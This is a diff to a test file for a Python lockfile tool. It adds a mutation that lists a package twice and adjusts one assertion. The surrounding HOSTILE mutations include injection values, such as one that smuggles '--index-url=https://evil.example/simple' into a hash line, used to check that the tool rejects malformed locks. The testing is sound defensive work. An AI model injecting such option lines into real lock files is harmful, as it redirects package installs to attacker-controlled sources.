@@ -159,6 +159,9 @@ HOSTILE = {
     # a hash is written into the requirements lock: a line break in it would add an option line
     "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, 1),
     "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, 1),
+    # a package listed twice for the same environment (pylock.toml: PEP 751 allows one; uv.lock: a
+    # second fork of the same version and source, which its dependents cannot tell apart)
+    "listed-twice": lambda text: text + text[text.index('[[package'):].split("\n\n")[0] + "\n",
     # bar as a direct URL (uv.lock: its source; pylock.toml: an archive), a line break in the URL
     "url-injects-an-option": lambda text: re.sub(
         r'(name = "bar"\nversion = "2.0"\n)(source = \{ registry = "[^"]*" \}|index = "[^"]*")',
@@ -181,7 +184,7 @@ def test_hostile_toml_locks_are_one_error_line(world: dict, tmp_path: Path, fmt:
     flag = "--uv-lock" if fmt == "uv-lock" else "--pylock"
     result = run_cli("lock", flag, str(bad), "--index", str(world["index"]), "--out", str(tmp_path / "out.txt"))
     if result.returncode == 0:  # the mutation missed what this format reads: a result, then
-        assert mutation not in HOSTILE_READ_BY_BOTH
+        assert mutation not in HOSTILE_READ_BY_BOTH and (fmt, mutation) != ("pylock", "listed-twice")
         assert (tmp_path / "out.txt").exists()
         return
     assert result.returncode == 1
